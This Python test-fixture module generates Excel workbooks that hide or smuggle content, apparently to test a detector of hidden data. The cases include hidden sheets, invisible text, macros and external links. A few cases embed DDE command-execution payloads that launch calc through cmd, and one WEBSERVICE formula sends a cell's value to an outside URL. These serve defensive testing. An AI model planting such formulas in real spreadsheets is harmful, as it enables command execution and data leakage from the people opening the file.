"""Excel's workbooks."""

from __future__ import annotations

import io
from typing import TYPE_CHECKING, Any

from corpus.hidden_cases.making import TABLE, bad, nothing, rewritten

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from corpus.case import Case


def xlsx(
    change: Callable[[Any], None], name: str = "results.xlsx", add: dict[str, bytes] | None = None
) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        from openpyxl import Workbook

        book = Workbook()
        for row in TABLE:
            book.active.append(row)
        change(book)
        held = io.BytesIO()
        book.save(held)
        (folder / name).write_bytes(rewritten(held.getvalue(), add or {}))

    return make


def second_sheet(state: str, *, filled: bool = True) -> Callable[[Any], None]:
    def change(book: Any) -> None:
        sheet = book.create_sheet("more")
        if filled:
            for row in TABLE:
                sheet.append(row)
        sheet.sheet_state = state

    return change


def hide_row(book: Any) -> None:
    book.active.row_dimensions[3].hidden = True


def flat_row(book: Any) -> None:
    book.active.row_dimensions[3].height = 0.1


def hide_column(book: Any) -> None:
    book.active.column_dimensions["B"].hidden = True


def narrow_column(book: Any) -> None:
    book.active.column_dimensions["B"].width = 0.1


def hide_empty(book: Any) -> None:
    book.active.row_dimensions[30].hidden = True
    book.active.column_dimensions["Z"].hidden = True


def collapse(book: Any) -> None:
    book.active.row_dimensions.group(2, 3, hidden=True)


def filtered(book: Any) -> None:
    book.active.auto_filter.ref = "A1:B4"
    book.active.auto_filter.add_filter_column(0, ["a"])
    for row in (3, 4):
        book.active.row_dimensions[row].hidden = True


def only_filter(book: Any) -> None:
    book.active.auto_filter.ref = "A1:B4"


def commented(book: Any) -> None:
    from openpyxl.comments import Comment

    book.active["B2"].comment = Comment("ask the ward about this one", "somebody")


def white(book: Any) -> None:
    from openpyxl.styles import Font

    book.active["B3"].font = Font(color="FFFFFFFF")


def white_on_blue(book: Any) -> None:
    from openpyxl.styles import Font, PatternFill

    for cell in book.active[1]:
        cell.font = Font(color="FFFFFFFF", bold=True)
        cell.fill = PatternFill("solid", fgColor="FF1F4E78")


def formatted_away(book: Any) -> None:
    book.active["B3"].number_format = ";;;"


def tiny(book: Any) -> None:
    from openpyxl.styles import Font

    book.active["B3"].font = Font(size=1)


def named(value: str) -> Callable[[Any], None]:
    def change(book: Any) -> None:
        from openpyxl.workbook.defined_name import DefinedName

        book.defined_names["kept"] = DefinedName("kept", attr_text=value)

    return change


def formula(text: str) -> Callable[[Any], None]:
    def change(book: Any) -> None:
        book.active["D2"] = text

    return change


def printed(book: Any) -> None:
    book.active.print_area = "A1:B4"
    book.active.freeze_panes = "A2"
    book.active.print_title_rows = "1:1"


def property_of_own(book: Any) -> None:
    from openpyxl.packaging.custom import StringProperty

    book.custom_doc_props.append(StringProperty(name="cohort", value="ward 7, admitted in March"))


def label(book: Any) -> None:
    from openpyxl.packaging.custom import StringProperty

    book.custom_doc_props.append(StringProperty(name="MSIP_Label_1_Enabled", value="true"))


_RECORDS = b'<pivotCacheRecords xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="3">%s</pivotCacheRecords>'
_LINK = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</externalLink>'
_BOOK = b'<externalBook><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>%d</v></cell></row></sheetData></sheetDataSet></externalBook>'


CASES: tuple[Case, ...] = (
    bad("xlsx sheet hidden", xlsx(second_sheet("hidden")), "sheet"),
    bad("xlsx sheet very hidden", xlsx(second_sheet("veryHidden")), "sheet"),
    bad("xlsx two sheets hidden", xlsx(lambda book: (second_sheet("hidden")(book), second_sheet("veryHidden")(book))), "sheet"),
    bad("xlsx sheet hidden in a macro's clothes", xlsx(second_sheet("hidden"), "results.csv.xlsx"), "sheet"),
    bad("xlsx second sheet visible", xlsx(second_sheet("visible"))),
    bad("xlsx hidden sheet without cells", xlsx(second_sheet("hidden", filled=False))),
    bad("xlsx plain", xlsx(nothing)),
    bad("xlsx row hidden", xlsx(hide_row), "cells"),
    bad("xlsx row of no height", xlsx(flat_row), "cells"),
    bad("xlsx column hidden", xlsx(hide_column), "cells"),
    bad("xlsx column of no width", xlsx(narrow_column), "cells"),
    bad("xlsx rows collapsed", xlsx(collapse), "cells"),
    bad("xlsx rows filtered away", xlsx(filtered), "cells"),
    bad("xlsx filter that hides nothing", xlsx(only_filter)),
    bad("xlsx empty rows and columns hidden", xlsx(hide_empty)),
    bad("xlsx comment", xlsx(commented), "comment"),
    bad("xlsx white on white", xlsx(white), "text"),
    bad("xlsx white on blue", xlsx(white_on_blue)),
    bad("xlsx format that shows nothing", xlsx(formatted_away), "text"),
    bad("xlsx tiny font", xlsx(tiny), "text"),
    bad("xlsx name with an array", xlsx(named("{61,58;63,64}")), "defined_name"),
    bad("xlsx name with text", xlsx(named('"ward 7"')), "defined_name"),
    bad("xlsx name outside", xlsx(named("'[other.xlsx]Sheet1'!$A$1:$B$9")), "defined_name"),
    bad("xlsx name of a range", xlsx(named("Sheet!$A$1:$B$4"))),
    bad("xlsx print area, titles, frozen panes", xlsx(printed)),
    bad("xlsx formula", xlsx(formula("=AVERAGE(B2:B4)")), "tables.unreadable"),
    bad("xlsx formula outside", xlsx(formula("='[1]Sheet1'!$A$1+1")), "external_link", "tables.unreadable"),
    bad("xlsx formula to the web", xlsx(formula('=WEBSERVICE("https://example.org/?q="&B2)')), "external_link", "tables.unreadable"),
    bad("xlsx formula with bars in a text", xlsx(formula('=IF(B2>60,"high","low | much!")')), "tables.unreadable"),
    bad("xlsx link to click", xlsx(formula('=HYPERLINK("https://example.org","guide")')), "tables.unreadable"),
    bad("xlsx DDE", xlsx(formula("=cmd|'/c calc'!A1")), "dde", "tables.unreadable"),
    bad("xlsx property of its own", xlsx(property_of_own), "custom_data"),
    bad("xlsx label of the organisation", xlsx(label)),
    bad("xlsx pivot cache", xlsx(nothing, add={"xl/pivotCache/pivotCacheRecords1.xml": _RECORDS % (b'<r><n v="61"/></r>' * 3)}), "pivot_cache"),
    bad("xlsx pivot cache without records", xlsx(nothing, add={"xl/pivotCache/pivotCacheRecords1.xml": _RECORDS % b""})),
    bad("xlsx data model", xlsx(nothing, add={"xl/model/item.data": b"x" * 4000}), "pivot_cache"),
    bad("xlsx link to a workbook", xlsx(nothing, add={"xl/externalLinks/externalLink1.xml": _LINK % (_BOOK % 61)}), "external_link"),
    bad("xlsx link to a program", xlsx(nothing, add={"xl/externalLinks/externalLink1.xml": _LINK % b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}), "dde"),
    bad("xlsx connection", xlsx(nothing, add={"xl/connections.xml": b'<connections><connection id="1" name="q"/></connections>'}), "connection"),
    bad("xlsx macro", xlsx(nothing, "results.xlsm", add={"xl/vbaProject.bin": b"VBA" * 50}), "macro"),
    bad("xlsx embedded object", xlsx(nothing, add={"xl/embeddings/oleObject1.bin": b"\1" * 900}), "embedded_object"),
    bad("xlsx custom XML", xlsx(nothing, add={"customXml/item1.xml": b"<rows><r>61</r><r>58</r></rows>"}), "custom_data"),
    bad("xlsx empty bibliography", xlsx(nothing, add={"customXml/item1.xml": b'<b:Sources xmlns:b="http://b"/>'})),
    bad("xlsx threaded comment", xlsx(nothing, add={"xl/threadedComments/threadedComment1.xml": b"<T><threadedComment><text>hm</text></threadedComment></T>"}), "comment"),
    bad("xlsx with entities", xlsx(nothing, add={"docProps/core.xml": b'<!DOCTYPE c [<!ENTITY a "aaaa">]><c>&a;</c>'}), "unread"),
    bad("xlsx with a broken sheet", xlsx(nothing, add={"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row>"}), "unread"),
)  # fmt: skip
